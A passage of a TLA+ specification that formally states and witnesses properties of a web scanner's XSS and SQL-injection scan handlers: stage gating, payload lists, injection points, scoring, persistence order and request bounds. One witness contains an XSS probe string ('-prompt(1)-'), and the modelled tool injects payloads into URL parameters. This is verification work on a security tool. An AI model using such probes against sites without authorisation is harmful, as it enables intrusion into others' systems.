            THEN LET lines == NonBlankLines(req[h].customPayloads)
                     V == results[h].vulnerabilities
                 IN  /\ payloads[h] = [defined |-> TRUE, items |-> lines]
                     /\ pc[h] = "xss_refl_wait" =>
                           \E k \in 1..Len(lines), p \in Range(SearchParamKeys(NewURL(req[h].url))) :
                               SearchParamsGet(inflight[h].url, p) = lines[k]
                     /\ pc[h] = "xss_token_wait" =>
                           \E k \in 1..Len(lines), p \in Range(SearchParamKeys(NewURL(req[h].url))),
                              t \in Tokens :
                               SearchParamsGet(inflight[h].url, p) \in
                                   {lines[k], ReplaceFirst(lines[k], "XSS", t)}
                     /\ pc[h] = "xss_frag_wait" =>
                           \E k \in 1..Len(lines) : inflight[h].url.hash = lines[k]
                     /\ \A i \in 1..Len(V) :
                           V[i].payload # null => \E k \in 1..Len(lines) : V[i].payload = lines[k]
                     /\ lines = << >> =>
                           sent[h].reflected + sent[h].token + sent[h].fragment = 0
                     /\ sent[h].fragment <= Len(lines)
                     /\ results[h].error = null
            ELSE LET depth == IF req[h].scanDepth = "" THEN "normal" ELSE req[h].scanDepth
                 IN  /\ depth \in {"shallow", "normal", "deep"} =>
                           payloads[h] = [defined |-> TRUE, items |-> defaultPayloads[depth]]
                     /\ depth \notin {"shallow", "normal", "deep"} => ~payloads[h].defined

\* a scan with two custom lines around a blank one and an unknown scanDepth
\* has sent both lines as fragments and reports the second one
C23_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].customPayloads = TwoLines
        /\ req[h].scanDepth = "extreme"
        /\ sent[h].fragment = 2
        /\ sent[h].reflected >= 2
        /\ \E i \in 1..Len(results[h].vulnerabilities) :
              results[h].vulnerabilities[i].payload = <<"'-prompt(1)-'">>

\* the stage that makes a finding of an XSS scan: 1 reflected, 2 DOM, 3 stored
StageOf(v) ==
    CASE v.type = "Reflected"          -> 1
      [] v.type = "DOM-based"          -> 2
      [] v.type = "Potentially Stored" -> 3

\* findings and requests of a stage exist only for the scan types of the
\* stage, and the stages follow each other as reflected, DOM, stored
StagesGated(h) ==
    LET V == results[h].vulnerabilities
        type == req[h].scanType
    IN  /\ type \notin {"reflected", "comprehensive"} =>
              /\ sent[h].reflected = 0 /\ sent[h].token = 0
              /\ \A i \in 1..Len(V) : V[i].type # "Reflected"
        /\ type \notin {"dom", "comprehensive"} =>
              /\ sent[h].baseline = 0 /\ sent[h].fragment = 0
              /\ \A i \in 1..Len(V) : V[i].type # "DOM-based"
        /\ type \notin {"stored", "comprehensive"} =>
              /\ sent[h].stored = 0
              /\ \A i \in 1..Len(V) : V[i].type # "Potentially Stored"
        /\ \A i \in 1..Len(V) : V[i].type \in {"Reflected", "DOM-based", "Potentially Stored"}
        /\ \A i, j \in 1..Len(V) : i < j => StageOf(V[i]) <= StageOf(V[j])
        /\ pc[h] \in {"xss_reflected", "xss_refl_wait", "xss_token_wait"} =>
              /\ sent[h].baseline = 0 /\ sent[h].fragment = 0 /\ sent[h].stored = 0
              /\ \A i \in 1..Len(V) : StageOf(V[i]) = 1
        /\ pc[h] \in {"xss_dom", "xss_base_wait", "xss_frag", "xss_frag_wait"} =>
              /\ sent[h].stored = 0
              /\ \A i \in 1..Len(V) : StageOf(V[i]) <= 2

\* C24 as stated: the detectors are gated by scanType, and every
\* "comprehensive" scan runs the three stages, in the order reflected, DOM,
\* stored.
C24_ComprehensiveRunsAllStages ==
    \A h \in Handlers :
        XssChosen(h) =>
            /\ StagesGated(h)
            /\ (Finished(h) /\ req[h].scanType = "comprehensive") =>
                  sent[h].baseline = 1 /\ sent[h].stored = 1

\* C24 amended: the detectors are gated by scanType and the findings are
\* listed in stage order; a "comprehensive" scan runs the three stages in the
\* order reflected, DOM, stored, unless its reflected stage throws (no payload
\* list for the scanDepth, a url with query keys): then the error is reported
\* and neither the DOM stage nor the stored stage runs.
C24_DetectorsGatedByScanType ==
    \A h \in Handlers :
        XssChosen(h) =>
            /\ StagesGated(h)
            /\ (Finished(h) /\ req[h].scanType = "comprehensive") =>
                  IF results[h].error = null
                  THEN /\ sent[h].baseline = 1 /\ sent[h].stored = 1
                       /\ (req[h].url.query # << >> /\ payloads[h].items # << >>) =>
                             sent[h].reflected >= 1
                  ELSE /\ ~payloads[h].defined /\ req[h].url.query # << >>
                       /\ TotalSent(h) = 0
                       /\ results[h].vulnerabilities = << >>

\* a comprehensive scan has run the three stages: a Reflected finding first,
\* the baseline request of the DOM stage, a Potentially Stored finding last
C24_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].scanType = "comprehensive"
        /\ sent[h].reflected >= 1 /\ sent[h].baseline = 1 /\ sent[h].stored = 1
        /\ Len(results[h].vulnerabilities) >= 2
        /\ results[h].vulnerabilities[1].type = "Reflected"
        /\ results[h].vulnerabilities[Len(results[h].vulnerabilities)].type
              = "Potentially Stored"

\* the keys of a query string, each once, in the order of their first occurrence
DistinctKeys(query) ==
    LET first == {i \in 1..Len(query) : \A j \in 1..(i - 1) : query[j].key # query[i].key}
        n == Cardinality(first)
        at == CHOOSE f \in [1..n -> first] : \A a, b \in 1..n : a < b => f[a] < f[b]
    IN  [k \in 1..n |-> query[at[k]].key]

\* C25: the injectionPoints list an XSS scan reports for a url without query
\* keys is the one synthetic point "page-content"; for a url with query keys
\* it is the list of the distinct keys, to which "page-content" is not added.
C25_ReportedInjectionPoints ==
    \A h \in Handlers :
        XssChosen(h) =>
            LET query == req[h].url.query
                reported == results[h].injectionPoints
            IN  /\ query = << >> => reported = << <<"page-content">> >>
                /\ query # << >> =>
                      /\ reported = DistinctKeys(query)
                      /\ \A i \in 1..Len(reported) :
                            reported[i] = <<"page-content">> =>
                                \E k \in 1..Len(query) : query[k].key = reported[i]
                /\ (pc[h] = "done" /\ response[h].status = 200) =>
                      response[h].results.injectionPoints = reported

\* the scan of a url without a query string was answered, with the synthetic point
C25_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].url.query = << >>
        /\ response[h].results.injectionPoints = << <<"page-content">> >>
        /\ TotalSent(h) > 0

C27_ScoreNullIffError ==
    \A h \in Handlers :
        /\ (XssChosen(h) /\ Finished(h)) =>
              /\ results[h].securityScore = null <=> results[h].error # null
              /\ results[h].error = null =>
                    results[h].securityScore \in {<<"A">>, <<"B">>, <<"C">>, <<"D">>, <<"F">>}
              /\ results[h].error # null =>
                    /\ ~payloads[h].defined
                    /\ testReflected(req[h])
                    /\ req[h].url.query # << >>
        /\ (Xss(h) /\ pc[h] = "done" /\ response[h].status = 200) =>
              /\ response[h].results.securityScore = null
                    <=> response[h].results.error # null
              /\ scans[response[h].scanId].findings.securityScore
                    = response[h].results.securityScore
              /\ scans[response[h].scanId].findings.error = response[h].results.error
        /\ (XssChosen(h) /\ ~Finished(h)) =>
              results[h].securityScore = null /\ results[h].error = null

\* a reflected scan with an unknown scanDepth of a url with a parameter was
\* answered with 200, an error and no score
C27_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].scanDepth = "extreme" /\ req[h].customPayloads = null
        /\ req[h].url.query # << >>
        /\ response[h].results.error # null
        /\ response[h].results.securityScore = null
        /\ response[h].results.vulnerabilities = << >>

\* the activity-log entries written for the request of h
LogEntries(h) ==
    {i \in DOMAIN activityLogs :
        /\ activityLogs[i].userId = req[h].user
        /\ activityLogs[i].action = ActionTag(req[h])
        /\ activityLogs[i].details = req[h].url}

\* C28: in both endpoints probing is over before createScan is called, the
\* activity log is written only after createScan has returned, and 200 is
\* sent only after both; when createScan fails there is no log entry and no
\* 200; when createActivityLog fails the scan record stays and no 200 is sent.
C28_PersistenceOrder ==
    /\ [](\A h \in Handlers :
            /\ Finished(h) => (inflight[h].kind = "none" /\ InFlight(h) = 0)
            /\ pc[h] \in {"idle", "createScan"} \/ ~Finished(h) =>
                  (scanId[h] = 0 /\ LogEntries(h) = {})
            /\ pc[h] \in {"createActivityLog", "respond"} =>
                  /\ scanId[h] \in DOMAIN scans
                  /\ scans[scanId[h]].findings = results[h]
                  /\ ~storageFailed[h]
            /\ pc[h] = "createActivityLog" => LogEntries(h) = {}
            /\ pc[h] = "respond" => Cardinality(LogEntries(h)) = 1
            /\ (pc[h] = "done" /\ response[h].status = 200) =>
                  /\ scanId[h] \in DOMAIN scans
                  /\ Cardinality(LogEntries(h)) = 1
                  /\ ~storageFailed[h]
            /\ storageFailed[h] =>
                  /\ pc[h] = "done"
                  /\ response[h].status = 500
                  /\ LogEntries(h) = {}
                  /\ scanId[h] # 0 =>
                        /\ scanId[h] \in DOMAIN scans
                        /\ scans[scanId[h]].findings = results[h]
                        /\ scans[scanId[h]].status = "completed")
    /\ [][\A h \in Handlers :
            /\ Finished(h) => (sent'[h] = sent[h] /\ results'[h] = results[h])
            /\ (scanId'[h] # scanId[h]) =>
                  (pc[h] = "createScan" /\ pc'[h] = "createActivityLog")
            /\ (pc[h] = "createScan" /\ pc'[h] = "done") =>
                  /\ response'[h].status = 500
                  /\ scans' = scans /\ activityLogs' = activityLogs
            /\ (pc[h] = "createActivityLog" /\ pc'[h] = "done") =>
                  /\ response'[h].status = 500
                  /\ scans' = scans /\ activityLogs' = activityLogs
            /\ (response'[h].status = 200 /\ response[h].status # 200) =>
                  pc[h] = "respond"]_vars
    /\ [][/\ DOMAIN scans \subseteq DOMAIN scans'
          /\ \A i \in DOMAIN scans : scans'[i] = scans[i]
          /\ scans' # scans => \E h \in Handlers : pc[h] = "createScan"
          /\ activityLogs' # activityLogs =>
                \E h \in Handlers : pc[h] = "createActivityLog" /\ scanId[h] \in DOMAIN scans]_vars

\* the scan record of a scan with findings was created, then the log entry
\* failed: the record is there, the caller got a 500
C28_Witness ==
    \E h \in Handlers :
        /\ pc[h] = "done" /\ response[h].status = 500
        /\ storageFailed[h]
        /\ scanId[h] \in DOMAIN scans
        /\ Len(scans[scanId[h]].findings.vulnerabilities) > 0
        /\ activityLogs = << >>

\* the number of payloads of the scan of h, none when the list is undefined
PayloadCount(h) ==
    IF Sql(h)
    THEN IF req[h].testLevel \in DOMAIN SqlPayloads
         THEN Len(SqlPayloads[req[h].testLevel]) ELSE 0
    ELSE Len(payloads[h].items)

\* C29: an accepted scan terminates: when every outbound request returns or
\* fails and every storage call returns, the handler sends a response; the
\* requests it issues are at most 2 x |parameters| x |payloads| for SQL
\* injection and for the reflected stage, at most 1 + |payloads| for the DOM
\* stage, and one for the stored stage.
C29_AcceptedScanTerminates ==
    /\ \A h \in Handlers :
          (pc[h] # "idle") ~> (pc[h] = "done" /\ response[h].status \in {200, 400, 401, 500})
    /\ [](\A h \in Handlers :
            /\ (Sql(h) /\ pc[h] # "idle") =>
                  /\ sent[h].test <= Len(targetParams[h]) * PayloadCount(h)
                  /\ sent[h].control <= sent[h].test
                  /\ TotalSent(h) = sent[h].test + sent[h].control
                  /\ TotalSent(h) <= 2 * Len(targetParams[h]) * PayloadCount(h)
            /\ (Xss(h) /\ pc[h] # "idle") =>
                  /\ sent[h].reflected <= Len(injectionPoints[h]) * PayloadCount(h)
                  /\ sent[h].token <= sent[h].reflected
                  /\ sent[h].reflected + sent[h].token
                        <= 2 * Len(injectionPoints[h]) * PayloadCount(h)
                  /\ sent[h].baseline <= 1
                  /\ sent[h].fragment <= PayloadCount(h)
                  /\ sent[h].baseline + sent[h].fragment <= 1 + PayloadCount(h)
                  /\ sent[h].stored <= 1
                  /\ (Scanned(h) /\ testStored(req[h]) /\ results[h].error = null) =>
                        sent[h].stored = 1
                  /\ sent[h].test = 0 /\ sent[h].control = 0)

\* a comprehensive scan has been answered after the DOM stage used up its
\* bound of one baseline request and one fragment request per payload
C29_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].scanType = "comprehensive"
        /\ Len(payloads[h].items) >= 3
        /\ sent[h].baseline + sent[h].fragment = 1 + Len(payloads[h].items)
        /\ sent[h].reflected >= Len(payloads[h].items)
        /\ sent[h].stored = 1

\* a text without the spaces at its two ends
Stripped(text) ==
    LET solid == {i \in 1..Len(text) : text[i] # " "}
    IN  IF solid = {} THEN << >>
        ELSE SubSeq(text, CHOOSE i \in solid : \A j \in solid : i <= j,
                          CHOOSE i \in solid : \A j \in solid : j <= i)

\* the non-empty names between the commas of a paramNames string, stripped
GivenNames(paramNames) ==
    LET n == Len(paramNames)
        Piece(a, b) == /\ a <= b
                       /\ a = 1 \/ paramNames[a - 1] = ","
                       /\ b = n \/ paramNames[b + 1] = ","
                       /\ \A k \in a..b : paramNames[k] # ","
    IN  {Stripped(SubSeq(paramNames, ab[1], ab[2])) :
            ab \in {x \in (1..n) \X (1..n) : Piece(x[1], x[2])}} \ {<< >>}

\* the SQL-injection handler of h has collected its parameters
SqlChosen(h) ==
    /\ Sql(h) /\ pc[h] # "idle"
    /\ req[h].user # 0 /\ req[h].url.present /\ req[h].url.absolute

\* C30: testedParams of an SQL-injection scan is the duplicate-free union of
\* the query keys of the url and of the comma-separated paramNames entries,
\* trimmed, the empty ones dropped; a name given several times, in the url,
\* in paramNames or in both, is listed once and probed once per payload.
C30_TestedParamsIsUnion ==
    \A h \in Handlers :
        SqlChosen(h) =>
            LET tp == results[h].testedParams
                keys == {req[h].url.query[k].key : k \in 1..Len(req[h].url.query)}
                T == results[h].testedUrls
            IN  /\ \A i, j \in 1..Len(tp) : i < j => tp[i] # tp[j]
                /\ Range(tp) = keys \cup GivenNames(req[h].paramNames)
                /\ targetParams[h] = tp
                /\ (pc[h] = "done" /\ response[h].status = 200) =>
                      response[h].results.testedParams = tp
                /\ (Finished(h) /\ req[h].testLevel \in DOMAIN SqlPayloads) =>
                      LET Y == SqlPayloads[req[h].testLevel]
                      IN  /\ Len(T) = Len(tp) * Len(Y)
                          /\ sent[h].test = Len(tp) * Len(Y)
                          /\ \A i \in 1..Len(tp), y \in 1..Len(Y) :
                                /\ T[(i - 1) * Len(Y) + y]
                                     = SearchParamsSet(NewURL(req[h].url), tp[i], Y[y])
                                /\ Cardinality({k \in 1..Len(T) :
                                      SearchParamsGet(T[k], tp[i]) = Y[y]}) = 1

\* the url has the key id, paramNames names id twice, q once and empty
\* entries: two parameters were listed and each was probed with the five payloads
C30_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].url = IdUrl
        /\ req[h].paramNames = <<" ", "id", " ", ",", ",", " ", ",", "q", ",", "id">>
        /\ response[h].results.testedParams = << <<"id">>, <<"q">> >>
        /\ Len(response[h].results.testedUrls) = 10
        /\ sent[h].test = 10

====
